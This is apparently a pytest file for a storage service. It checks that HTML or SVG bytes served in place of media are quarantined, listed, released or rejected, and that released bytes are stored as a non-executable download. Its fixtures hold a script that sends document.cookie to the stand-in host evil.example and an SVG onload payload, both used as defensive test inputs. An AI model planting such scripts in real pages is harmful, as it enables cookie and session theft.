"""What is no media waits for a person, and never runs in anybody's browser whatever they say."""

from __future__ import annotations

import asyncio
import json
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest
from aiohttp import web

from shared.contracts.storage_events import (
    MediaLost,
    MediaStored,
    MigrationCompleted,
    QuarantineRejected,
    QuarantineReleased,
)
from storage_svc.application.backlog import OutputRef
from storage_svc.application.store_output import LostNow, StoredNow
from storage_svc.domain.commands import ReleaseQuarantined
from tests.storage_process import Ended, run
from tests.storage_world import now
from velro.stack.seaweedfs import s3_client

if TYPE_CHECKING:
    from tests.storage_scene import Scene

HTML = b"<!doctype html><script>fetch('https://evil.example/?'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>"
HOSTILE = pytest.mark.parametrize(
    ("body", "looks_like"), [(HTML, "text/html"), (SVG, "image/svg+xml")], ids=["html", "svg"]
)


@pytest.fixture
def scene(projecting_scene: Scene) -> Scene:
    return projecting_scene


async def quarantined(
    scene: Scene, body: bytes = HTML, *, dies_in: timedelta = timedelta(hours=1), outputs: int = 1
) -> None:
    """Outputs of one generation, all of which a source answers with what is no media."""

    async def hostile(_request: web.Request) -> web.StreamResponse:
        # The type that it names is a lie too.
        return web.Response(body=body, content_type="image/png")

    for index in range(outputs):
        scene.media.answers[f"g-{index}.png"] = hostile
    await scene.completed("g", dies_in=dies_in, outputs=outputs)
    async with scene.storing() as store:
        for index in range(outputs):
            assert isinstance(await store(OutputRef("g", index)), LostNow)
    await scene.world.level()


async def headers(scene: Scene) -> tuple[str, dict[str, str]]:
    """What whoever reads the bucket is told of its only object."""

    def read() -> tuple[str, dict[str, str]]:
        client = s3_client(scene.bucket)
        (found,) = client.list_objects_v2(Bucket=scene.bucket.bucket).get("Contents", [])
        key = str(found["Key"])
        answer = client.get_object(Bucket=scene.bucket.bucket, Key=key)
        answer["Body"].close()
        told = {str(k): str(v) for k, v in answer["ResponseMetadata"]["HTTPHeaders"].items()}
        client.close()
        return key, told

    return await asyncio.to_thread(read)


async def said(scene: Scene) -> list[type]:
    return [type(event) for event in await scene.world.said("g")]


async def quarantine(scene: Scene, *arguments: str) -> Ended:
    ended = await run(scene.env, "quarantine", *arguments)
    await scene.world.level()
    return ended


async def listed(scene: Scene) -> list[dict[str, Any]]:
    ended = await quarantine(scene, "list", "--json")
    assert ended.code == 0, ended.err
    return json.loads(ended.out)["quarantined"]


@HOSTILE
async def test_what_is_released_is_stored_as_bytes_that_no_browser_runs(
    scene: Scene, body: bytes, looks_like: str
) -> None:
    await quarantined(scene, body)
    (seen,) = await scene.world.report.quarantined(max_rows=10)
    assert (seen.looks_like, seen.user_id, seen.source_host) == (looks_like, "ann", "127.0.0.1")
    async with scene.storing() as store:
        await store.recorder.record("g", ReleaseQuarantined(0))
        assert isinstance(await store(OutputRef("g", 0)), StoredNow)

    ((stored_body, media_type),) = (await scene.objects()).values()
    assert (stored_body, media_type) == (body, "application/octet-stream")
    key, told = await headers(scene)
    assert key.endswith(".bin")
    assert told["content-disposition"].startswith("attachment;")
    assert told["x-amz-meta-x-content-type-options"] == "nosniff"
    assert await said(scene) == [MediaLost, QuarantineReleased, MediaStored, MigrationCompleted]


async def test_a_person_sees_what_is_quarantined_and_releases_one_of_it(scene: Scene) -> None:
    await quarantined(scene, outputs=2)
    found = await listed(scene)
    assert [one["ref"] for one in found] == [
        {"generation_id": "g", "output_index": 0},
        {"generation_id": "g", "output_index": 1},
    ]
    assert found[0]["looks_like"] == "text/html"
    assert found[0]["detail"] == "the bytes are an HTML page; it is not stored as media"
    table = await quarantine(scene, "list")
    assert "text/html" in table.out

    ended = await quarantine(scene, "release", "g", "--index", "1")
    assert ended.code == 0, ended.err
    assert "g output 1: released and stored as bytes of no type" in ended.out
    assert [one["ref"]["output_index"] for one in await listed(scene)] == [0]
    again = await quarantine(scene, "release", "g", "--index", "1")
    assert again.code == 2
    assert "it is stored" in again.err


async def test_what_is_rejected_is_neither_listed_nor_copied_any_more(scene: Scene) -> None:
    await quarantined(scene, outputs=2)
    ended = await quarantine(scene, "reject", "g", "--why", "asks for a password")
    assert ended.code == 0, ended.err
    assert await listed(scene) == []
    lost = await run(scene.env, "backlog", "--lost", "--json")
    details = [output["detail"] for output in json.loads(lost.out)["outputs"]]
    assert all(detail.endswith("rejected: asks for a password") for detail in details)

    released = await quarantine(scene, "release", "g", "--index", "0")
    assert released.code == 2
    assert "rejected for good: asks for a password" in released.err
    retried = await run(scene.env, "retry", "g")
    assert "rejected for good" in retried.out
    assert await said(scene) == [MediaLost, MediaLost, QuarantineRejected, QuarantineRejected]
    assert not await scene.objects()


async def test_a_release_that_comes_too_late_says_so(scene: Scene) -> None:
    await quarantined(scene, dies_in=timedelta(seconds=-5))
    scene.media.answer("g-0.png", 410)
    ended = await quarantine(scene, "release", "g")
    assert ended.code == 3
    assert "released too late: its link died at" in ended.out
    assert "the link is dead (410)" in ended.out
    assert await listed(scene) == []
    assert await said(scene) == [MediaLost, QuarantineReleased, MediaLost]


async def test_a_release_while_the_bucket_is_away_comes_again_by_itself(scene: Scene) -> None:
    await quarantined(scene)
    env = scene.env | {"VELRO_S3_SECRET_KEY": "wrong"}
    ended = await run(env, "quarantine", "release", "g")
    assert ended.code == 0, ended.err
    assert "released; failed and will be tried again: credentials_refused" in ended.out
    await scene.world.level()
    assert (await scene.world.report.summary(now())).pending == 1
    assert (await run(scene.env, "retry", "g")).code == 0
    _, told = await headers(scene)
    assert told["content-type"] == "application/octet-stream", "it is still taken as it is"


async def test_nothing_is_released_that_is_not_quarantined(scene: Scene) -> None:
    await scene.completed("g")
    ended = await quarantine(scene, "release", "g")
    assert ended.code == 2
    assert ended.err == "no output of g is in quarantine\n"
    ended = await quarantine(scene, "release", "unknown")
    assert ended.code == 2
    assert "the log has no completed generation unknown" in ended.err
